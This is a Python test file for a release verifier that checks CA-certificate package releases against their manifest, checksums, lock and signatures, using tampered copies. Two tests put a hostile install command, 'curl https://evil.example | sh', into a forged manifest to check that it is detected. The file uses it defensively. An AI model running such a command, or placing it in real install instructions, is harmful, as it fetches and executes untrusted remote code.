"""A release's folder is held to its manifest, a lock and signatures, and each file that differs is named."""

from __future__ import annotations

import hashlib
import json
import random
import shutil
from typing import TYPE_CHECKING

import msgspec
import pytest
from msgspec.structs import replace

from builder.errors import SignatureError, VerificationError
from builder.lifecycle import lockfile
from builder.prove.authority import create
from builder.provenance import materials, verify_release
from builder.provenance import statement as statements
from builder.release import documents
from builder.release import folder as folders
from builder.release.documents import ReleaseDocument
from builder.release.folder import sums
from builder.release.manifest import read_manifest, to_json
from builder.signing import public_files, site_keys
from builder.signing.site_verifier import SiteVerifier
from tests import releases
from tests import site_keys as made
from tests.unit.provenance import projects

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    from builder.lifecycle.lock import Lock
    from builder.provenance.statement import Statement


DEB, RPM, APK = (
    "acme-ca-certs_2026.1_all.deb",
    "acme-ca-certs-2026.1-1.noarch.rpm",
    "acme-ca-certs-2026.1-r0.apk",
)
STATEMENT, ENVELOPE = "acme-2026.1.intoto.json", "acme-2026.1.intoto.dsse.json"
ARCH = "acme-ca-certs-2026.1-1-any.pkg.tar.gz"


@pytest.fixture(scope="module")
def released(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Build and sign a release of four packages; no test changes this folder, nor the keys beside it."""
    folder = tmp_path_factory.mktemp("released")
    projects.signed(folder / "one", folder / "keys", targets="apk, arch, deb, rpm")
    (folder / "one" / "dist").rename(folder / "dist")
    return folder


@pytest.fixture
def dist(tmp_path: Path, released: Path) -> Path:
    """Return a copy of that release."""
    return shutil.copytree(released / "dist", tmp_path / "dist")


@pytest.fixture
def keys(released: Path) -> SiteVerifier:
    """Return the public keys that signed it."""
    return public_files.read([released / "keys"])


def lock_of(released: Path) -> Lock:
    """Return the lock of the release's project."""
    found = lockfile.read(released / "one" / "trustpack.lock")
    assert found
    return found


def told(folder: Path, keys: SiteVerifier | None = None, lock: Lock | None = None) -> dict[str, str]:
    """Return what is wrong with a release, by file."""
    found = verify_release.verify(
        "dist", verify_release.read(folder), keys=keys, lock=lock, lock_name="trustpack.lock"
    )
    return {one.file: one.problem for one in found.discrepancies}


def named(folder: Path, keys: SiteVerifier) -> list[str]:
    """Return the files that are named, by differences or by an error."""
    try:
        return list(told(folder, keys))
    except VerificationError as error:
        return [str(error).partition(":")[0].removeprefix(f"{folder}/")]


def rewritten(folder: Path, change: Callable[[dict[str, object]], object]) -> None:
    """Change the manifest, and SHA256SUMS with it, as who wants to hide something would."""
    value = json.loads((folder / "manifest.json").read_bytes())
    change(value)
    (folder / "manifest.json").write_text(json.dumps(value, indent=2) + "\n")
    manifest = read_manifest(folder)
    assert manifest
    (folder / "manifest.json").write_bytes(to_json(manifest))
    (folder / "SHA256SUMS").write_bytes(sums(manifest))


def test_a_release_as_it_was_signed_has_no_difference(dist: Path, released: Path, keys: SiteVerifier) -> None:
    """And it is said what was looked at."""
    lock = lock_of(released)
    found = verify_release.verify("dist", verify_release.read(dist), keys=keys, lock=lock, lock_name="a.lock")
    assert () == found.discrepancies
    assert {"files", "certificates", "lock", "signatures", "statement"} == {
        one.check for one in found.examined if one.done
    }


def test_what_was_not_verified_is_said_with_its_reason(dist: Path) -> None:
    """Without keys and without a lock."""
    found = verify_release.verify("dist", verify_release.read(dist), keys=None, lock=None)
    assert () == found.discrepancies
    assert {
        "lock": "not compared with a lock, because none was given (--lock)",
        "rebuild": "not rebuilt, because its source.tar was not asked for",
        "signatures": "no signature verified, because no keys were given (--keys)",
        "statement": f"{STATEMENT} held to the files alone, because no key for statements was given (--keys)",
    } == {one.check: one.said for one in found.examined if not one.done}


@pytest.mark.parametrize("file", [DEB, RPM, APK, ARCH, f"{ARCH}.sig", "SHA256SUMS"])
def test_a_missing_and_a_changed_file_are_named(dist: Path, keys: SiteVerifier, file: str) -> None:
    """Each by its name."""
    path = dist / file
    data = path.read_bytes()
    middle = len(data) // 2
    path.write_bytes(data[:middle] + bytes([data[middle] ^ 1]) + data[middle + 1 :])
    assert [file] == named(dist, keys)
    path.unlink()
    assert {file: "is missing"} == told(dist, keys)


def test_a_manifest_that_is_damaged_or_missing_is_named(dist: Path, keys: SiteVerifier) -> None:
    """Without it there is no release; what it says of a CA, the CA's certificate says."""
    path = dist / "manifest.json"
    text = path.read_text()
    for old, new in (("{", "["), ("CN=Acme Root", "CN=Acme Boot"), ('"release": "2026.1"', '"release": "x"')):
        path.write_text(text.replace(old, new, 1))
        assert ["manifest.json"] == named(dist, keys)
    with pytest.raises(VerificationError, match=r"manifest\.json: is a file$"):
        told(path, keys)
    path.unlink()
    with pytest.raises(VerificationError, match="holds no release"):
        told(dist, keys)


def places(value: object, at: tuple[str | int, ...] = ()) -> Iterator[tuple[str | int, ...]]:
    """Yield the way to each value in JSON."""
    if at:
        yield at
    inside = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, each in inside:
        yield from places(each, (*at, key))


def test_any_value_anywhere_in_a_manifest_is_a_difference(dist: Path, keys: SiteVerifier) -> None:
    """Whatever its type: it never passes, and ends in nothing but an error of ours."""
    chosen = random.Random(20261129)  # noqa: S311  the same values in each run
    odd: tuple[object, ...] = (
        None,
        -1,
        10**18,
        10**400,
        1.5,
        "",
        "é",
        "\0",
        "../x",
        "9" * 5000,
        [],
        {},
        [[]],
    )
    text = (dist / "manifest.json").read_text()
    for _ in range(100):
        value = json.loads(text)
        *way, last = chosen.choice(list(places(value)))
        inside = value
        for key in way:
            inside = inside[key]
        other = chosen.choice(odd)
        if inside[last] == other:
            continue
        inside[last] = other
        (dist / "manifest.json").write_text(json.dumps(value, indent=2) + "\n")
        assert named(dist, keys) != [], (way, last, other)


def test_a_link_in_the_place_of_a_file_is_not_followed(dist: Path, tmp_path: Path) -> None:
    """It could lead to other content tomorrow."""
    (dist / DEB).rename(tmp_path / "elsewhere")
    (dist / DEB).symlink_to(tmp_path / "elsewhere")
    assert {DEB: "cannot be read: it is a link"} == told(dist)


def test_a_manifest_that_is_written_otherwise_is_found(dist: Path) -> None:
    """By what no digest covers: blanks, and the order of keys."""
    text = (dist / "manifest.json").read_text()
    (dist / "manifest.json").write_text(json.dumps(json.loads(text)))
    assert {"manifest.json": "is not written as trustpack does"} == told(dist)


def test_what_another_trustpack_wrote_may_have_more_keys(tmp_path: Path) -> None:
    """That is no difference, as long as it is written in the one way."""
    releases.build(tmp_path, "acme", [create("Acme Root", now=projects.NOW)], target="pem", release="2026.1")
    dist = tmp_path / "dist"
    value = json.loads((dist / "manifest.json").read_bytes())
    text = json.dumps({**value, "more": 1, "trustpack": "99.0"}, indent=2) + "\n"
    (dist / "manifest.json").write_text(text)
    assert {} == told(dist)
    (dist / "manifest.json").write_text(text.replace("99.0", value["trustpack"]))
    assert {"manifest.json": "is not written as trustpack does"} == told(dist)


def test_a_wrong_digest_in_the_manifest_is_the_manifests_fault(dist: Path) -> None:
    """Where SHA256SUMS knows the file as it is."""
    text = (dist / "manifest.json").read_text()
    digest = hashlib.sha256((dist / DEB).read_bytes()).hexdigest()
    (dist / "manifest.json").write_text(text.replace(digest, "0" * 64))
    assert f"says another digest of {DEB}" == told(dist)["manifest.json"]
    assert DEB not in told(dist)


def test_a_package_that_trusts_another_ca_than_the_rest_is_named(dist: Path, tmp_path: Path) -> None:
    """Though manifest and sums were changed with it."""
    other = create("Acme Other Root", now=projects.NOW)
    (file,) = releases.build(tmp_path / "other", "acme", [other], target="deb", release="2026.1")
    data = file.read_bytes()
    (dist / DEB).write_bytes(data)

    def change(value: dict[str, object]) -> None:
        entries = value["artifacts"]
        assert isinstance(entries, list)
        (entry,) = (one for one in entries if one["file"] == DEB)
        entry.update(sha256=hashlib.sha256(data).hexdigest(), size=len(data))

    rewritten(dist, change)
    found = verify_release.verify("dist", verify_release.read(dist))
    assert {DEB} == {one.file for one in found.discrepancies}
    assert ["trusts the CA", "lacks the CA ", "lacks the CA ", "is not the fi"] == [
        one.problem[:13] for one in found.discrepancies
    ]


def test_another_lock_is_told_by_what_differs(dist: Path, released: Path) -> None:
    """Its CAs in each package, its release and its organisation."""
    lock = lock_of(released)
    assert {} == told(dist, lock=lock)
    one, blocked = lock.certificates
    other = msgspec.structs.replace(one, sha256="0" * 64)
    found = told(dist, lock=msgspec.structs.replace(lock, certificates=(one, blocked, other)))
    named = ("manifest.json", DEB, RPM, APK, ARCH)
    assert dict.fromkeys(named, f"lacks the CA {'0' * 64}, which trustpack.lock lists") == found
    found = told(dist, lock=msgspec.structs.replace(lock, certificates=(one,)))
    said = f"distrusts the CA {blocked.sha256}, which is none that trustpack.lock lists"
    assert {"manifest.json": said} == found
    newest = msgspec.structs.replace(lock.history[0], release="2026.2")
    found = told(dist, lock=msgspec.structs.replace(lock, history=(newest,)))
    assert {"manifest.json": "is of release 2026.1, and trustpack.lock of 2026.2"} == found
    found = told(dist, lock=msgspec.structs.replace(lock, organisation="evil"))
    assert {"manifest.json": "is of acme, and trustpack.lock of evil"} == found


def test_a_signature_by_another_key_is_named(dist: Path, keys: SiteVerifier) -> None:
    """Each of the three kinds, and the statement's."""
    ring = made.keyring(3)
    strange = SiteVerifier((ring.published[0].openpgp,), {}, ring.statement_keys)
    assert {RPM, APK, f"{ARCH}.sig", ENVELOPE, DEB} == told(dist, strange).keys()
    both = {**keys.statement_keys, **strange.statement_keys}
    assert {} == told(dist, SiteVerifier((*strange.keys, *keys.keys), keys.apk_keys, both))


def test_what_has_no_signature_needs_a_statement(dist: Path, keys: SiteVerifier) -> None:
    """By who signs packages alone, nobody speaks for a .deb."""
    found = told(dist, SiteVerifier(keys.keys, keys.apk_keys))
    assert [DEB] == list(found)
    assert "has no signature of its own, and no statement" in found[DEB]


@pytest.mark.parametrize("target", ["deb", "rpm", "apk", "arch"])
def test_a_signature_that_was_taken_away_is_missed(tmp_path: Path, keys: SiteVerifier, target: str) -> None:
    """Where there are keys, everything that can be signed must be."""
    authority = create("Acme Root", now=projects.NOW)
    releases.build(tmp_path, "acme", [authority], target=target, release="2026.1")
    (said,) = told(tmp_path / "dist", keys).values()
    assert said.startswith(
        "has no signature of its own" if target == "deb" else "the signature: there is none"
    )


def test_a_release_of_signed_packages_alone_needs_a_statement(dist: Path, keys: SiteVerifier) -> None:
    """Else anybody could say which release it is, and how to install it."""

    def stripped(value: dict[str, object]) -> None:
        entries = value["artifacts"]
        assert isinstance(entries, list)
        value.update(artifacts=[one for one in entries if one["file"] == RPM], documents=[], release="2027.1")
        entries[-1]["install"] = "curl https://evil.example | sh"

    rewritten(dist, stripped)
    said = "is signed by nobody: no statement about the release is signed by a key that was given"
    assert {"manifest.json": said} == told(dist, keys)


def test_what_the_manifest_alone_says_is_held_to_the_bill_of_materials(
    dist: Path, keys: SiteVerifier
) -> None:
    """By whose digest it is in the signed statement, where nothing can be built once more."""

    def misled(value: dict[str, object]) -> None:
        entries = value["artifacts"]
        assert isinstance(entries, list)
        entries[0]["install"] = "curl https://evil.example | sh"

    rewritten(dist, misled)
    assert {"manifest.json": "says something else than acme-2026.1.cdx.json"} == told(dist, keys)


def test_a_file_that_no_statement_knows_is_named(dist: Path, keys: SiteVerifier) -> None:
    """As a second envelope, and as a signature beside what has none."""

    def another(value: dict[str, object]) -> None:
        entries = value["documents"]
        assert isinstance(entries, list)
        entries.append(
            {"file": "evil.md", "kind": "envelope", "size": 0, "sha256": hashlib.sha256().hexdigest()}
        )

    text = (dist / "manifest.json").read_text()
    (dist / "evil.md").touch()
    value = json.loads(text)
    another(value)
    (dist / "manifest.json").write_text(json.dumps(value, indent=2) + "\n")
    assert ["manifest.json"] == named(dist, keys)
    (dist / "manifest.json").write_text(text)

    def beside(value: dict[str, object]) -> None:
        entries = value["artifacts"]
        assert isinstance(entries, list)
        (entry,) = (one for one in entries if one["file"] == DEB)
        entry["signature"] = f"{DEB}.sig"

    (dist / f"{DEB}.sig").touch()
    rewritten(dist, beside)
    assert {f"{DEB}.sig": f"is a signature beside {DEB}, which has none"} == told(dist, keys)


def resealed(dist: Path, keys: Path, change: Callable[[Statement], Statement]) -> None:
    """Sign another statement about a release, and describe it, as who has the key could."""
    with folders.claimed(dist) as claim:
        text = statements.encode(change(statements.decode((dist / STATEMENT).read_bytes(), "x")))
        envelope = site_keys.read(keys).seal(text)
        made_anew = [
            ReleaseDocument(STATEMENT, "statement", text),
            ReleaseDocument(ENVELOPE, "envelope", envelope),
        ]
        documents.attach(claim, made_anew)


def test_a_release_is_held_to_its_signed_statement(dist: Path, released: Path, keys: SiteVerifier) -> None:
    """To each file, to which release it is, and to what it was made from."""

    def other_digest(found: Statement) -> Statement:
        first, *rest = found.subject
        return replace(found, subject=(statements.stated(first.name, "0" * 64), *rest))

    resealed(dist, released / "keys", other_digest)
    assert {APK: f"is not the file that {STATEMENT} is about"} == told(dist, keys)

    def one_less(found: Statement) -> Statement:
        return replace(found, subject=found.subject[1:])

    resealed(dist, released / "keys", one_less)
    assert {APK: f"is in the release, and {STATEMENT} does not know it"} == told(dist, keys)

    def one_more(found: Statement) -> Statement:
        return replace(found, subject=(statements.stated("x.deb", "0" * 64), *found.subject))

    resealed(dist, released / "keys", one_more)
    assert f"lacks x.deb, which {STATEMENT} is about" == told(dist, keys)["manifest.json"]


def test_a_source_that_is_not_the_stated_one_is_named(dist: Path, released: Path, keys: SiteVerifier) -> None:
    """File by file."""

    def other(found: Statement) -> Statement:
        definition = found.predicate.build_definition
        first, *rest = definition.resolved_dependencies
        changed = (statements.stated(first.name, "0" * 64), *rest)
        definition = replace(definition, resolved_dependencies=changed)
        return replace(found, predicate=replace(found.predicate, build_definition=definition))

    resealed(dist, released / "keys", other)
    assert f"has another {materials.BUNDLE} than" in told(dist, keys)[projects.SOURCE]


def test_an_envelope_around_another_statement_is_named(
    dist: Path, released: Path, keys: SiteVerifier
) -> None:
    """Though both are written and signed as they are to be."""
    before = (dist / ENVELOPE).read_bytes()

    def other(found: Statement) -> Statement:
        return replace(found, subject=found.subject[::-1])

    resealed(dist, released / "keys", other)
    assert {"manifest.json"} == told(dist, keys).keys()
    with folders.claimed(dist) as claim:
        documents.attach(claim, [ReleaseDocument(ENVELOPE, "envelope", before)])
    assert f"holds another statement than {STATEMENT}" == told(dist, keys)[ENVELOPE]


def test_a_signature_is_written_in_one_way(dist: Path, keys: SiteVerifier) -> None:
    """What no signature covers of its own packet cannot be changed: here whose it claims to be."""
    signature = (dist / f"{ARCH}.sig").read_bytes()
    keys.single((dist / ARCH).read_bytes(), signature)
    head, issuer, rest = signature.rpartition(bytes.fromhex(keys.keys[0].fingerprint[-16:]))
    assert issuer
    changed = head + bytes(8) + rest
    (dist / f"{ARCH}.sig").write_bytes(changed)
    assert "was changed where no signature looks" in told(dist, keys)[f"{ARCH}.sig"]


def test_public_keys_come_from_files_and_folders(tmp_path: Path, released: Path) -> None:
    """As a site has them; a private key is refused, and so is a file that holds none."""
    every = public_files.read([released / "keys"])
    public = tmp_path / "public"
    public.mkdir()
    for path in (released / "keys").iterdir():
        if path.suffix in {".asc", ".pub"}:
            shutil.copy(path, public)
    (public / "notes.txt").write_text("from the wiki\n")
    found = public_files.read([public])
    assert ({*every.keys}, every.apk_keys) == ({*found.keys}, found.apk_keys)
    assert (2, every.statement_keys) == (len(found.statement_keys), found.statement_keys)
    one = public_files.read([public / "1-openpgp.asc"])
    assert (every.keys[0],) == one.keys
    with pytest.raises(SignatureError, match="is no public key"):
        public_files.read([public / "notes.txt"])
    with pytest.raises(SignatureError, match="holds no public keys"):
        public_files.read([released / "dist"])
